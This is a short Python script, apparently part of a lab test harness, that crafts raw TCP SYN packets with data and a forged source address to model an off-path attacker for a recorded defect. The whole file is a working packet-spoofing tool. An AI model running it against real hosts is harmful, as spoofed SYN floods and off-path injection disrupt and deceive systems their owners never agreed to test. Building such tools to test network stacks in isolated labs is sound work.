"""Send TCP SYNs carrying data from a forged source address (runs inside a
lab namespace, as root): the off-path attacker of issue 8 defect 7, who
cannot see the SYN-ACKs and so never completes a handshake.

    syn_spoof.py SRC DST DPORT HEXDATA COUNT

Each SYN has its own source port. The IPv4 header is ours (IP_HDRINCL via
an IPPROTO_RAW socket), so the kernel sends SRC as given.
"""

import os
import socket
import struct
import sys


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn(src, dst, sport, dport, data, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    pseudo = (socket.inet_aton(src) + socket.inet_aton(dst) +
              struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp) + len(data)))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + \
        tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(data),
                     os.getpid() & 0xffff, 0, 64, socket.IPPROTO_TCP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp + data


def main():
    src, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3])
    data, count = bytes.fromhex(sys.argv[4]), int(sys.argv[5])
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        r.sendto(syn(src, dst, 41000 + i, dport, data,
                     int.from_bytes(os.urandom(4), "big")), (dst, 0))
    print("sent %d" % count)


if __name__ == "__main__":
    main()
